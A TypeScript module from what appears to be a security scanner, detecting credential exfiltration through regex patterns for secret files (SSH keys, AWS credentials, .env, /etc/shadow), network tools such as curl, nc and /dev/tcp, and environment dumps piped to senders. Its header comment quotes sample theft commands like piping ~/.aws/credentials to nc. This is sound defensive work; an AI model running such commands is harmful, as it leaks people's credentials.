import type { TextContext } from './context.js';
import { snippet } from './context.js';
import { CHECK } from './triggers.js';

// exfiltration: credentials or private files read and sent over the network on one
// logical line (`curl -d @~/.ssh/id_rsa …`, `cat ~/.aws/credentials | nc host 443`,
// `env | curl -d @- …`), or within the next two lines of code by an HTTP upload
// (`requests.post(…, data=open(key).read())`). Using a key to authenticate
// (`ssh -i ~/.ssh/id_rsa`), downloading into such a path (`curl -o ~/.kube/config`),
// public keys (.pub) and `source .env` are not sending anything.

/** Files that hold credentials. Every alternative contains a trigger word of CHECK.EXFIL. */
const SECRET_FILE =
  /(?:~|\$\{?HOME\}?|\/(?:root|home\/[\w.-]+|Users\/[\w.-]+))?\/?(?:\.ssh\/(?!\S*\.pub\b)[\w.*-]*|\.aws\/credentials|\.aws\/config|\.netrc|\.git-credentials|\.config\/gh\/hosts\.yml|\.docker\/config\.json|\.kube\/config|\.npmrc|\.pypirc|\.gnupg\/[\w.*-]*)|\/etc\/shadow\b|(?<![\w.-])\.env(?![\w.-])|\bid_(?:rsa|dsa|ecdsa|ed25519)\b(?!\.pub)/g;

/** A program or call that sends data somewhere. */
const SENDER = /\b(?:curl|wget|nc|ncat|netcat|socat|scp|rsync|sftp|ftp|telnet|invoke-webrequest|invoke-restmethod|iwr|irm|sendmail)\b|\/dev\/tcp\/|\b(?:requests|httpx|session|axios|client)\.(?:post|put|patch)\b|\burlopen\b|\bfetch\s*\(/i;
/** An upload across lines of code (the read and the send on nearby lines). */
const UPLOAD_CALL = /\b(?:requests|httpx|session|axios|client)\.(?:post|put|patch)\s*\(|\burlopen\s*\(|\bfetch\s*\([^)\n]*method\s*:\s*["'](?:POST|PUT)/i;
/** Right before the path: using it (ssh -i, --key), writing it (-o, >), or loading it (source). */
const NOT_A_READ = /(?:(?:^|\s)-i\s*|--(?:key|cert|identity|output|output-document)[=\s]+|(?:^|\s)-[a-zA-Z]*[oO]\s+|>>?\s*|(?:^|[\s;&|])(?:source|\.)\s+|--env-file[=\s]+)["']?$/;
/** Dumping the environment into a sender. */
const ENV_DUMP = /(?:env|printenv|set|export\s+-p)(?<=(?:^|[\s;&|(`$])(?:env|printenv|set|export\s+-p))[ \t]*\|[ \t]*(?:base64[^|\n]*\|[ \t]*)?(?:curl|wget|nc|ncat|netcat|socat)\b/gm;

function lineBounds(text: string, index: number): [number, number] {
  const start = text.lastIndexOf('\n', index - 1) + 1;
  let end = text.indexOf('\n', index);
  if (end === -1) end = text.length;
  return [start, end];
}

export function scanExfiltration(ctx: TextContext, checks: number): void {
  const text = ctx.text;
  const re = SECRET_FILE;
  re.lastIndex = 0;
  let m: RegExpExecArray | null;
  while (checks & CHECK.EXFIL && (m = re.exec(text)) !== null) {
    if (m[0].length === 0) {
      re.lastIndex++;
      continue;
    }
    const [start, end] = lineBounds(text, m.index);
    if (NOT_A_READ.test(text.slice(Math.max(start, m.index - 40), m.index))) continue;
    // The same command: at most 200 characters either side on the line.
    const line = text.slice(Math.max(start, m.index - 200), Math.min(end, m.index + m[0].length + 200));
    let sends = SENDER.test(line);
    if (!sends && ctx.where.kind === 'script') {
      let next = end;
      for (let k = 0; k < 2 && next < text.length; k++) next = lineBounds(text, next + 1)[1];
      sends = UPLOAD_CALL.test(text.slice(end, next));
    }
    if (!sends) continue;
    ctx.report('exfiltration', m.index, `sends ${snippet(m[0], 40)} over the network: ${snippet(line)}`, ctx.isMention(m.index));
    re.lastIndex = end;
  }
  if (checks & CHECK.EXFIL_ENV) {
    ENV_DUMP.lastIndex = 0;
    while ((m = ENV_DUMP.exec(text)) !== null) {
      const at = m.index;
      ctx.report('exfiltration', at, `sends the environment (API keys, tokens) over the network: ${snippet(ctx.excerpt(at))}`, ctx.isMention(at));
    }
  }
}
